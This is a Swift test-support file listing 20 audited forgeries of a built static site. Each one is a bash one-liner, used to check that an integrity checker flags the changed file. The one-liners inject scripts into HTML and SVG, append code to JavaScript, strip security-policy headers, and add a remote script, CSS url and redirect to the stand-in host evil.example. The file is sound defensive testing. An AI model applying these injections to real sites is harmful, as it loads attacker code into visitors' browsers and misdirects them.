import TestSupport
import Testing

/// A change of a built site by someone without keys.
package struct SiteForgery: Sendable {
  package let name: String
  /// The file that a check has to name, below the site; a `*` stands for the hash in a name.
  package let path: String
  /// A line of bash that changes the site, in its folder.
  package let script: String
  /// The exit code of a check without a signed index, if all check sums were made again.
  package let exit: Int32

  package init(name: String, path: String, script: String, exit: Int32 = 77) {
    (self.name, self.path, self.script, self.exit) = (name, path, script, exit)
  }

  /// The 20 changes that the security audit has tried on sites without a signed index.
  ///
  /// The checks of that release found only the last ten.
  package static let audited = [
    SiteForgery(
      name: "the script that draws the codes", path: "app/portal-*.js",
      script: "echo ';document.title=1' >> app/portal-*.js"),
    SiteForgery(
      name: "the verifier's key in a page", path: "n/westend/index.html",
      script: "sed -i 's/d435/dead/' n/westend/index.html"),
    SiteForgery(
      name: "an inline script", path: "index.html",
      script: "sed -i 's|</head>|<script>1</script></head>|' index.html"),
    SiteForgery(
      name: "a script of another host", path: "index.html",
      script:
        #"sed -i 's|</head>|<script src="https://evil.example/x.js"></script></head>|' index.html"#),
    SiteForgery(
      name: "a page without its policy", path: "n/westend/index.html",
      script: "sed -i 's/Content-Security-Policy/X-Nothing/' n/westend/index.html"),
    SiteForgery(
      name: "headers without the policy", path: "_headers",
      script: "sed -i 's/Content-Security-Policy/X-Nothing/' _headers"),
    SiteForgery(
      name: "an address in the style", path: "app/style-*.css",
      script: "echo 'body{background:url(https://evil.example/t)}' >> app/style-*.css"),
    SiteForgery(
      name: "a redirect", path: "404.html",
      script:
        #"sed -i 's|</head>|<meta http-equiv="refresh" content="0;url=//evil.example"/></head>|' 404.html"#
    ),
    SiteForgery(
      name: "the links of the feed", path: "feed.atom",
      script: "sed -i 's/metadata.example.org/metadata.evil.org/' feed.atom"),
    SiteForgery(
      name: "a script in the portal's icon", path: "icons/portal.svg",
      script: "sed -i 's|</svg>|<script>alert(1)</script></svg>|' icons/portal.svg"),
    SiteForgery(
      name: "code after the status", path: "status.js", script: "echo 'evil()' >> status.js"),
    SiteForgery(
      name: "code before the status", path: "status.js", script: "sed -i '1s/^/evil();/' status.js"),
    SiteForgery(
      name: "another key in the data", path: "data.json",
      script: #"sed -i 's/"signedBy": "[^"]*"/"signedBy": "Other"/' data.json"#),
    SiteForgery(
      name: "code in the script of a payload", path: "payload/*.js",
      script: "echo 'evil()' >> $(ls payload/*.js | head -1)"),
    SiteForgery(name: "another page", path: "evil.html", script: "cp index.html evil.html"),
    SiteForgery(name: "another program", path: "sw.js", script: "cp app/portal-*.js sw.js"),
    SiteForgery(
      name: "a script in a network's icon", path: "icons/westend.svg",
      script: "sed -i 's|</svg>|<script>alert(1)</script></svg>|' icons/westend.svg"),
    SiteForgery(
      name: "the picture of another payload", path: "qr/westend_metadata_9220.*",
      script: "cp qr/westend_metadata_9150.apng qr/westend_metadata_9220.apng"),
    SiteForgery(
      name: "a picture without a record", path: "qr/other.apng",
      script: "cp qr/westend_metadata_9150.apng qr/other.apng", exit: 65),
    SiteForgery(
      name: "a missing picture", path: "qr/westend_specs.png", script: "rm qr/westend_specs.png",
      exit: 66),
  ]

  /// Changes a site; it is an error if all files are as before.
  package func apply(to site: String) throws {
    let run = try ProcessRunner.run(
      "/bin/bash",
      [
        "-ec",
        """
        files() { find . -printf '%P %y %l\\n' | sort; find . -type f | sort | xargs -d '\\n' sha256sum; }
        before=$(files); \(script); [ "$before" != "$(files)" ]
        """,
      ], folder: site)
    try #require(run.exitCode == 0, "\(name) changes nothing: \(run.error)")
  }

  /// Whether a finding names the changed file.
  package func isNamed(by finding: String) -> Bool {
    let parts = path.split(separator: "*", omittingEmptySubsequences: false)
    return parts.count == 1
      ? finding == path : finding.hasPrefix(parts[0]) && finding.hasSuffix(parts[1])
  }
}
